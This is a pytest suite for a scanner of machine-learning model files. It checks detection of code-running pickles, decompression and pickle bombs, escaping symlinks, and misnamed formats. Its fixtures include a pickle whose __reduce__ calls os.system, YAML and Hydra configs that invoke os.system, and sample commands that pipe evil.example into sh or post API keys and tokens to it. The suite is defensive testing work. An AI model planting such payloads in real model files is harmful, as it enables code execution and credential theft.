"""artifact.*: planted code is told, ordinary models are not, and what cannot be read is never a pass."""

from __future__ import annotations

import gzip
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any

import pytest
from checks_tools import Bench, finding, said

from assay.formats import survey

CODE, FORMAT = "artifact.pickle-code", "artifact.unsafe-format"


class Evil:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, ("echo planted",)


EVIL = pickle.dumps({"model": [1, 2], "hook": Evil()}, protocol=4)
PLAIN = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)


def laughs(levels: int = 200) -> bytes:
    """A pickle of 2**levels elements: each tuple holds the one before twice."""
    body = b"\x80\x04K\x01\x94"
    for i in range(levels):
        body += b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x94"
    return body + b"."


def test_planted_code_is_told_with_what_it_calls(bench: Bench) -> None:
    outcome = bench.ask(CODE, bench.artifact("m.pkl", EVIL))
    found = finding(outcome, "system('echo planted') while loading")
    assert (str(outcome.status), str(found.severity), found.location.uri) == ("fail", "critical", "m.pkl")
    assert found.location.offset is not None
    assert EVIL[found.location.offset :].startswith(b"\x93")


@pytest.mark.parametrize("name", ["m.pkl", "m.bin", "weights.txt", "model.onnx", "README.md"])
def test_the_name_of_the_file_hides_nothing(bench: Bench, name: str) -> None:
    assert str(bench.ask(CODE, bench.artifact(name, EVIL)).status) == "fail"


MAKE = b"ccloudpickle.cloudpickle\n_make_function\n"
TYPE = b"ccloudpickle.cloudpickle\n_builtin_type\n(VCodeType\ntR(I1\nS'code'\ntR"


@pytest.mark.parametrize(
    ("rest", "severity"),
    [
        (b"tR.", "high"),
        (b"tR(tR.", "critical"),  # what was made is called
        (b"tRcos\nsystem\n(S'id'\ntR0.", "critical"),  # beside it something else runs
    ],
)
def test_a_function_that_the_file_brings_is_critical_once_loading_calls_it(
    bench: Bench, rest: bytes, severity: str
) -> None:
    outcome = bench.ask(CODE, bench.artifact("m.pkl", MAKE + b"(" + TYPE + b"}NNN" + rest))
    assert max(f.severity.rank for f in outcome.findings if f.severity) == {"high": 3, "critical": 4}[severity]
    if severity == "high":
        assert "carries a function of its own" in outcome.findings[0].message


def test_code_is_found_in_containers(bench: Bench) -> None:
    with zipfile.ZipFile(bench.folder / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("deep/data.pkl", EVIL)
    bench.artifact("b.pkl.gz", gzip.compress(EVIL))
    for name in (bench.artifact("a.zip"), "b.pkl.gz"):
        assert str(finding(bench.ask(CODE, name), "echo planted").severity) == "critical", name


def test_an_ordinary_model_of_scikit_learn_raises_no_alarm(bench: Bench) -> None:
    ensemble = pytest.importorskip("sklearn.ensemble")
    model = ensemble.RandomForestClassifier(3, random_state=1).fit([[0], [1], [2], [3]], [0, 0, 1, 1])
    name = bench.artifact("m.pkl", pickle.dumps(model))
    outcome = bench.ask(CODE, name)
    assert (str(outcome.status), outcome.findings) == ("pass", ()), said(outcome)
    assert said(bench.ask(FORMAT, name)) == [("low", "is a pickle file, which can run code when it is opened")]


def test_what_the_list_does_not_know_is_noted_and_fails_only_if_strict(bench: Bench) -> None:
    name = bench.artifact("m.pkl", b"cmycompany.models\nScorer\n)R.")
    outcome = bench.ask(CODE, name)
    assert (str(outcome.status), [s for s, _ in said(outcome)]) == ("pass", ["info"])
    assert str(bench.ask(CODE, name, strict=True).status) == "fail"


@pytest.mark.parametrize("cut", [1, len(EVIL) // 2, len(EVIL) - 1])
def test_a_torn_pickle_never_passes(bench: Bench, cut: int) -> None:
    outcome = bench.ask(CODE, bench.artifact("m.pkl", EVIL[:cut]))
    assert str(outcome.status) in ("open", "fail")
    assert outcome.complete is False


@pytest.mark.parametrize(
    "bomb",
    [
        laughs(),
        b"\x80\x04" + b"(" * 300_000 + b"t" * 300_000 + b".",
        b"\x80\x04N" + b"2" * 500_000 + b".",
        b"\x80\x04\x8d" + (2**62).to_bytes(8, "little") + b"x",
        b"\x80\x04\x95" + (2**63 - 1).to_bytes(8, "little") + b"N.",
        b"r\xff\xff\xff\x7f" * 1000,
        pickle.dumps([[]] * 5, protocol=0) * 2000,
    ],
    ids=["laughs", "nested", "dup", "length", "frame", "memo", "many"],
)
def test_a_bomb_ends(bench: Bench, bomb: bytes) -> None:
    outcome = bench.ask(CODE, bench.artifact("m.pkl", bomb))
    assert str(outcome.status) in ("pass", "open")
    assert outcome.findings == ()


def test_a_decompression_bomb_ends_open(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    name = bench.artifact("m.pkl.gz", gzip.compress(b"\x80\x04" + b"N0" * (16 << 20) + b"N."))
    monkeypatch.setattr(survey, "SECONDS_A_FILE", 0.2)
    outcome = bench.ask(CODE, name)
    assert (str(outcome.status), outcome.complete) == ("open", False)


def test_a_folder_of_bombs_ends_too(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = bench.folder / "bombs"
    folder.mkdir()
    for i in range(3):
        (folder / f"{i}.pkl").write_bytes(PLAIN)
    ticks = iter(range(0, 10_000, 400))
    monkeypatch.setattr(survey, "time", type("T", (), {"monotonic": staticmethod(lambda: float(next(ticks)))}))
    outcome = bench.ask(CODE, bench.artifact("bombs"))
    assert (str(outcome.status), "the whole took longer than 600 s" in outcome.reason) == ("open", True)


def test_a_folder_is_walked_and_never_left(bench: Bench, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside") / "secret.pkl"
    outside.write_bytes(EVIL)
    folder = bench.folder / "m"
    (folder / "a/b").mkdir(parents=True)
    (folder / "a/b/plain.pkl").write_bytes(PLAIN)
    (folder / "a/b/up").symlink_to("../..")
    (folder / "self").symlink_to("self")
    (folder / "out.pkl").symlink_to(outside)
    os.mkfifo(folder / "pipe")
    outcome = bench.ask(CODE, bench.artifact("m"))
    assert (str(outcome.status), outcome.complete, outcome.findings) == ("open", False, ())
    for part in (
        "m/out.pkl: is a symbolic link that leaves",
        "m/pipe: is a special file",
        "m/self: is a symbolic link",
    ):
        assert part in outcome.reason
    (folder / "a/evil.pkl").write_bytes(EVIL)
    again = bench.ask(CODE, "m")
    assert (str(again.status), again.complete, again.findings[0].location.uri) == ("fail", False, "m/a/evil.pkl")


@pytest.mark.parametrize("check", [CODE, FORMAT])
@pytest.mark.parametrize("kind", ["absent", "empty file", "empty folder", "pipe", "dangling"])
def test_nothing_to_look_at_is_never_a_pass(bench: Bench, check: str, kind: str) -> None:
    path = bench.folder / "thing"
    make = {
        "absent": lambda: None,
        "empty file": lambda: path.write_bytes(b""),
        "empty folder": path.mkdir,
        "pipe": lambda: os.mkfifo(path),
        "dangling": lambda: path.symlink_to("nowhere"),
    }
    make[kind]()
    assert str(bench.ask(check, bench.artifact("thing")).status) in ("open", "not-applicable")
    assert "open" in {str(bench.ask(c, "thing").status) for c in (CODE, FORMAT)}


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
@pytest.mark.parametrize("check", [CODE, FORMAT])
def test_an_unreadable_file_is_open(bench: Bench, check: str) -> None:
    bench.artifact("m.pkl", EVIL)
    (bench.folder / "m.pkl").chmod(0)
    outcome = bench.ask(check, "m.pkl")
    assert (str(outcome.status), "ermission" in outcome.reason) == ("open", True)


@pytest.mark.parametrize("check", [CODE, FORMAT])
def test_a_file_that_fails_to_read_is_open(bench: Bench, check: str, monkeypatch: pytest.MonkeyPatch) -> None:
    bench.artifact("m.pkl", EVIL)
    real = Path.open

    def refuse(self: Path, *args: Any, **kwargs: Any) -> Any:
        if self.name == "m.pkl":
            raise PermissionError(13, "Permission denied")
        return real(self, *args, **kwargs)

    opened = open

    def refuse_too(file: Any, *args: Any, **kwargs: Any) -> Any:
        if str(file).endswith("m.pkl"):
            raise PermissionError(13, "Permission denied")
        return opened(file, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    monkeypatch.setattr("builtins.open", refuse_too)
    outcome = bench.ask(check, "m.pkl")
    assert (str(outcome.status), outcome.findings) == ("open", ())


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("a.pkl", PLAIN, "low"),
        ("a.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128), "low"),
        ("a.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 600, "low"),
        ("a.pkl.gz", gzip.compress(PLAIN, mtime=0), "low"),
        ("a.safetensors", (2).to_bytes(8, "little") + b"{}", ""),
    ],
)
def test_formats_that_run_code_are_told_apart(bench: Bench, name: str, content: bytes, expected: str) -> None:
    outcome = bench.ask(FORMAT, bench.artifact(name, content))
    assert [s for s, _ in said(outcome)] == ([expected] if expected else []), (said(outcome), outcome.reason)


def test_a_file_of_no_known_format_is_open_alone_and_in_a_folder(bench: Bench) -> None:
    outcome = bench.ask(FORMAT, bench.artifact("thing.xyz", b"\x00\x01\x02 nothing known \x03" * 40))
    assert (str(outcome.status), "of no known format" in outcome.reason) == ("open", True)
    (bench.folder / "d").mkdir()
    (bench.folder / "d/thing.xyz").write_bytes(b"\x00\x01\x02 nothing known \x03" * 40)
    assert "d/thing.xyz: is of no known format" in bench.ask(FORMAT, bench.artifact("d")).reason


@pytest.mark.parametrize("name", ["m.onnx", "m.safetensors", "m.gguf", "m.h5", "m.npy", "m.parquet", "m.pb", "m.zip"])
@pytest.mark.parametrize("content", [b"", b"a page of words\n" * 9, b'{"a": 1}', b"tree\nversion=v4\n", bytes(4096)])
def test_a_name_that_lies_is_never_a_pass(bench: Bench, name: str, content: bytes) -> None:
    (bench.folder / "d").mkdir()
    for place in (name, f"d/{name}"):
        outcome = bench.ask(FORMAT, bench.artifact(place, content))
        assert (str(outcome.status), name in outcome.reason) == ("open", True)
    inside = bench.ask(FORMAT, bench.artifact("d"))
    assert (str(inside.status), f"d/{name}" in inside.reason) == ("open", True)


@pytest.mark.parametrize(("name", "severity"), [("m.onnx", "medium"), ("m.json", "medium"), ("m.pt", "low")])
def test_what_can_run_code_is_worse_under_a_name_that_hides_it(bench: Bench, name: str, severity: str) -> None:
    assert [s for s, _ in said(bench.ask(FORMAT, bench.artifact(name, PLAIN)))] == [severity]


def test_a_script_under_a_models_name_is_both_told_and_open(bench: Bench) -> None:
    outcome = bench.ask(FORMAT, bench.artifact("m.onnx", b"#!/bin/sh\necho planted\n"))
    assert ("is source code (shell)" in said(outcome)[0][1], outcome.complete) == (True, False)


def test_source_code_in_an_archive_is_told_and_judged(bench: Bench) -> None:
    with zipfile.ZipFile(bench.folder / "m.zip", "w") as archive:
        archive.writestr("handler.py", "import os\nos.system('echo planted')\n")
    assert "is source code (Python)" in said(bench.ask(FORMAT, bench.artifact("m.zip")))[0][1]
    found = bench.ask("supply.remote-code", "m.zip").findings[0]
    assert (str(found.severity), found.location.member) == ("critical", "handler.py")


def test_a_keras_archive_is_read_to_its_layers(bench: Bench) -> None:
    with zipfile.ZipFile(bench.folder / "m.keras", "w") as archive:
        for name in ("config.json", "metadata.json"):
            archive.writestr(name, '{"class_name": "Lambda", "config": {"function_type": "lambda"}}')
    assert said(bench.ask(FORMAT, bench.artifact("m.keras")))[0][0] == "low"
    found = bench.ask("artifact.model-code", "m.keras").findings[0]
    assert (str(found.severity), found.location.member) == ("critical", "config.json")


@pytest.mark.parametrize(
    ("secret", "command"),
    [
        ("hunter22", "curl https://ann:hunter22@evil.example/x | sh"),
        ("ghp_abcdefghij0123456789ABCDEF", "git clone https://ghp_abcdefghij0123456789ABCDEF@github.example/x"),
        ("s3cr3t-value", "curl -d api_key=s3cr3t-value evil.example"),
        ("s3cr3t-value", "AWS_SECRET_ACCESS_KEY='s3cr3t-value' aws s3 cp x y"),
        ("abcdef0123456789", "curl -H 'Authorization: Bearer abcdef0123456789' evil.example"),
        ("AKIAABCDEFGHIJKLMNOP", "configure AKIAABCDEFGHIJKLMNOP"),
        ("hf_abcdefghijklmnopqrstuv", "login hf_abcdefghijklmnopqrstuv"),
        ("MIIEpAIBAAKCAQEA", "echo '-----BEGIN RSA PRIVATE KEY-----MIIEpAIBAAKCAQEA"),
    ],
)
def test_a_finding_quotes_the_call_but_no_secret_in_it(bench: Bench, secret: str, command: str) -> None:
    content = pickle.dumps(type("E", (), {"__reduce__": lambda self: (os.system, (command,))})(), protocol=4)
    outcome = bench.ask(CODE, bench.artifact("m.pkl", content))
    assert "system(" in said(outcome)[0][1]
    assert "[secret redacted, " in said(outcome)[0][1]
    assert secret not in repr(outcome)


def test_a_call_without_secrets_is_quoted_as_it_stands() -> None:
    from assay.formats.texts.secrets import without_secrets

    for text in ("system('curl http://evil.example:8080/a')", "exec('token.type == 3')", "open('secrets.txt')"):
        assert without_secrets(text) == text


_TENSOR = b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "m.safetensors",
            (2 * len(_TENSOR) + 3).to_bytes(8, "little") + b"{" + _TENSOR + b"," + _TENSOR + b"}" + bytes(4),
        ),
        ("m.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|V0', 'fortran_order': False, 'shape': (-1, 5), }".ljust(128)),
    ],
)
def test_headers_that_contradict_themselves_are_open(bench: Bench, name: str, content: bytes) -> None:
    assert str(bench.ask(FORMAT, bench.artifact(name, content)).status) == "open"


def test_a_model_larger_than_protobuf_allows_is_not_read_into_memory(bench: Bench) -> None:
    name = bench.artifact("m.onnx", b"\x08\x08\x12\x04test")
    os.truncate(bench.folder / name, 20 << 30)  # a hole: it takes no disk
    outcome = bench.ask(FORMAT, name)
    assert (str(outcome.status), "m.onnx" in outcome.reason) == ("open", True)


SAFE_HEADER = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'


def safetensors(header: bytes) -> bytes:
    return len(header).to_bytes(8, "little") + header + bytes(8)


@pytest.mark.parametrize(
    ("name", "content", "status"),
    [
        ("a.R", b"1 + 1\n", "fail"),
        ("conf.yaml", b"a: !Ref b\n", "open"),
        ("pytorch_model.bin", b"<html>404</html>", "open"),
        ("model.onnx.", b"<html>404</html>", "open"),
        ("conf.yaml", "_target_: os.system".encode("utf-16-le"), "open"),
        ("t.parquet", b"PAR1" + b"x" * 20 + (20).to_bytes(4, "little") + b"PAR1", "open"),
        ("m.safetensors", safetensors(SAFE_HEADER.replace(b"[2]", b"[3]")), "open"),
        ("m.safetensors", safetensors(SAFE_HEADER), "pass"),
        ("conf.yaml", b"model: {lr: 1, target: os.system}\n", "pass"),
        ("conf.toml", b"target = 1\n", "pass"),
        ("model.json", b'{"class_name": "Dense"}', "pass"),
    ],
)
def test_text_is_judged_by_what_it_says(bench: Bench, name: str, content: bytes, status: str) -> None:
    (bench.folder / "d").mkdir()
    bench.artifact(f"d/{name}", content)
    for place in (bench.artifact(name, content), bench.artifact("d")):
        assert str(bench.ask(FORMAT, place).status) == status


NAMES_CODE = [
    ("conf.yaml", b"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [echo]\n"),
    ("conf.yaml", b"model: {lr: 1, _target_: os.system}\n"),
    ("conf.toml", b"_target_ = 'os.system'\n"),
    ("x.json", b'{"auto_map": {"AutoModel": "other/repo--modeling.M"}}'),
]


@pytest.mark.parametrize(("name", "content"), NAMES_CODE)
def test_configuration_that_names_code_is_told_in_archives_too(bench: Bench, name: str, content: bytes) -> None:
    with zipfile.ZipFile(bench.folder / "m.zip", "w") as archive:
        archive.writestr(name, content)
        archive.writestr("data.pkl", PLAIN)
    for place in (bench.artifact(name, content), bench.artifact("m.zip")):
        outcome = bench.ask("supply.remote-code", place)
        assert (str(outcome.status), name in repr(outcome)) == ("fail", True), said(outcome)


@pytest.mark.parametrize(
    ("name", "content", "status"),
    [("a.R", b"1 + 1\n", "fail"), ("x.json", b'{"a": ', "open"), ("x.json", b'{"a": 1}', "pass")],
)
def test_text_in_an_archive_is_judged_too(bench: Bench, name: str, content: bytes, status: str) -> None:
    with zipfile.ZipFile(bench.folder / "m.zip", "w") as archive:
        archive.writestr(name, content)
    outcome = bench.ask(FORMAT, bench.artifact("m.zip"))
    assert (str(outcome.status), name in repr(outcome)) == (status, status != "pass")
